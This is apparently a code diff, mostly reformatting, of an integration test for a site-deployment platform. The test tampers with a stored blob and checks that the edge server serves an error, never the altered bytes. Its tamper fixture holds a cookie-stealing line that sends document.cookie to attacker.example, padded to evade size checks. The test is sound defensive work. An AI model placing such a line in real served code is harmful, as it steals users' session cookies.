@@ -16,7 +16,7 @@ import { packageSsrSite } from '../runtime/helpers.js';
 
 const SHARED = Buffer.from(`export const shared = ${JSON.stringify('x'.repeat(50_000))};\n`);
 // as long as the original: a size check alone cannot tell them apart
-const EVIL = Buffer.from(`export const shared = "owned"; fetch("https://attacker.example/" + document.cookie);//`.padEnd(SHARED.length - 1, ' ') + '\n');
+const EVIL = Buffer.from(`${`export const shared = "owned"; fetch("https://attacker.example/" + document.cookie);//`.padEnd(SHARED.length - 1, ' ')}\n`);
 const BIG = Buffer.alloc(9 * 1024 * 1024, 'big file, streamed past the memory cache\n');
 
 let dir: Awaited<ReturnType<typeof tempDir>>;
@@ -32,7 +32,31 @@ async function deploy(project: string, deploymentId: string, manifestHash: strin
   const now = Date.now();
   await db
     .insertInto('deployments')
-    .values({ id: deploymentId, project_id: created.body.id, seq: await bumpCounter(db, 'deployment_seq'), status: 'ready', target: 'production', trigger: 'api', branch: 'main', commit_sha: 'a'.repeat(40), commit_message: null, commit_author: null, manifest_hash: manifestHash, files_total: null, files_uploaded: null, bytes_uploaded: null, timings: null, build_info: null, error_code: null, error_phase: null, error_message: null, attempts: 1, created_at: now, started_at: now, finished_at: now })
+    .values({
+      id: deploymentId,
+      project_id: created.body.id,
+      seq: await bumpCounter(db, 'deployment_seq'),
+      status: 'ready',
+      target: 'production',
+      trigger: 'api',
+      branch: 'main',
+      commit_sha: 'a'.repeat(40),
+      commit_message: null,
+      commit_author: null,
+      manifest_hash: manifestHash,
+      files_total: null,
+      files_uploaded: null,
+      bytes_uploaded: null,
+      timings: null,
+      build_info: null,
+      error_code: null,
+      error_phase: null,
+      error_message: null,
+      attempts: 1,
+      created_at: now,
+      started_at: now,
+      finished_at: now,
+    })
     .execute();
   await db.insertInto('aliases').values({ project_id: created.body.id, name: 'production', deployment_id: deploymentId, updated_at: now }).execute();
   await bumpCounter(db, 'alias_generation');
@@ -46,10 +70,14 @@ async function tamper(hash: string, bytes: Buffer): Promise<void> {
 }
 
 async function integrityError(deploymentId: string): Promise<string> {
-  return waitFor(`deployment ${deploymentId} to be flagged`, async () => {
-    const { body } = await slipway.api('GET', `/api/v1/deployments/${deploymentId}`);
-    return typeof body.integrityError === 'string' ? (body.integrityError as string) : undefined;
-  }, 10_000);
+  return waitFor(
+    `deployment ${deploymentId} to be flagged`,
+    async () => {
+      const { body } = await slipway.api('GET', `/api/v1/deployments/${deploymentId}`);
+      return typeof body.integrityError === 'string' ? (body.integrityError as string) : undefined;
+    },
+    10_000,
+  );
 }
 
 before(async () => {
@@ -77,7 +105,11 @@ describe('a blob changed on disk', () => {
     assert.equal((await stat(blobs.pathOf(blob))).mode & 0o777, 0o444, 'blobs are stored read-only');
 
     await tamper(blob, EVIL);
-    for (const [host, path] of [['alpha.localhost', '/app.js'], ['beta.localhost', '/vendor/app.js'], ['alpha.localhost', '/app.js']] as const) {
+    for (const [host, path] of [
+      ['alpha.localhost', '/app.js'],
+      ['beta.localhost', '/vendor/app.js'],
+      ['alpha.localhost', '/app.js'],
+    ] as const) {
       const res = await edgeGet(slipway.edgePort, host, path);
       assert.equal(res.status, 500, `${host}${path} answers the 500 page`);
       assert.notEqual(sha256(res.body), sha256(EVIL), 'never the changed bytes');
